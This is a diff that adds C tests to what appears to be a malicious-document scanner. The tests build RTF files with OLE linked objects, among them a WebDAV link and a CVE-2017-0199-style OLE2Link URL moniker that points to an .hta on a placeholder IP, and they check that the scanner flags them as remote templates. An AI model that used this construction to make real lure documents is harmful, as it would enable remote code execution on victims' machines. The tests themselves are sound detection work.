@@ -165,6 +165,90 @@ t_rtf(void)
 	    "RTF INCLUDETEXT field");
 }
 
+/* An RTF \\object whose OLE1 data is obj (hex-encoded here). */
+static void
+rtf_object(struct ot_buf *r, const unsigned char *obj, size_t n)
+{
+	static const char hex[] = "0123456789abcdef";
+	static const char head[] =
+	    "{\\rtf1{\\object\\objautlink{\\*\\objdata ";
+	size_t	 i;
+	char	 h[2];
+
+	memset(r, 0, sizeof(*r));
+	ot_put(r, head, sizeof(head) - 1);
+	for (i = 0; i < n; i++) {
+		h[0] = hex[obj[i] >> 4];
+		h[1] = hex[obj[i] & 15];
+		ot_put(r, h, 2);
+	}
+	ot_put(r, "}}}", 3);
+}
+
+static void
+lpas(struct ot_buf *b, const char *s)
+{
+	uint32_t n = (uint32_t)strlen(s) + 1;
+	unsigned char l[4] = { n & 0xff, n >> 8 & 0xff, n >> 16 & 0xff,
+	    n >> 24 };
+
+	ot_put(b, l, 4);
+	ot_put(b, s, n);
+}
+
+static void
+t_rtf_links(void)
+{
+	static const unsigned char v1[4] = { 1, 5, 0, 0 };
+	static const unsigned char linked[4] = { 1, 0, 0, 0 };
+	static const unsigned char embedded[4] = { 2, 0, 0, 0 };
+	const char	*url = "http://198.51.100.9/x.hta";
+	struct ot_buf	 o, r;
+	unsigned char	 u16[64], sz[4];
+	size_t		 i, n;
+
+	/* A linked object: its topic is the source, fetched on update. */
+	memset(&o, 0, sizeof(o));
+	ot_put(&o, v1, 4);
+	ot_put(&o, linked, 4);
+	lpas(&o, "Word.Document.8");
+	lpas(&o, "\\\\198.51.100.9@SSL\\DavWWWRoot\\x.doc");
+	lpas(&o, "");
+	rtf_object(&r, o.p, o.n);
+	is_int(LW_OK, ot_scan("a.rtf", r.p, r.n, &fs), "RTF linked object");
+	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "linked object") != NULL,
+	    "a linked object on WebDAV");
+	ot_dump(&fs);
+	free(o.p);
+	free(r.p);
+
+	/* An embedded OLE2Link: a URL moniker in UTF-16LE (CVE-2017-0199). */
+	for (i = 0, n = 0; url[i] != '\0'; i++) {
+		u16[n++] = (unsigned char)url[i];
+		u16[n++] = 0;
+	}
+	memset(&o, 0, sizeof(o));
+	ot_put(&o, v1, 4);
+	ot_put(&o, embedded, 4);
+	lpas(&o, "OLE2Link");
+	lpas(&o, "");
+	lpas(&o, "");
+	sz[0] = (unsigned char)(n + 16);
+	sz[1] = sz[2] = sz[3] = 0;
+	ot_put(&o, sz, 4);
+	ot_put(&o, "\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa"
+	    "\x00\x4b\xa9\x0b", 16);
+	ot_put(&o, u16, n);
+	rtf_object(&r, o.p, o.n);
+	ot_scan("a.rtf", r.p, r.n, &fs);
+	ok(ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "OLE2Link") != NULL &&
+	    ot_find(&fs, "OFFICE_REMOTE_TEMPLATE", "x.hta") != NULL,
+	    "an OLE2Link's URL moniker");
+	ot_dump(&fs);
+	free(o.p);
+	free(r.p);
+}
+
 static void
 t_html(void)
 {
@@ -351,6 +435,7 @@ main(void)
 	t_remote();
 	t_rels_fields();
 	t_rtf();
+	t_rtf_links();
 	t_html();
 	t_xlm();
 	t_biff();
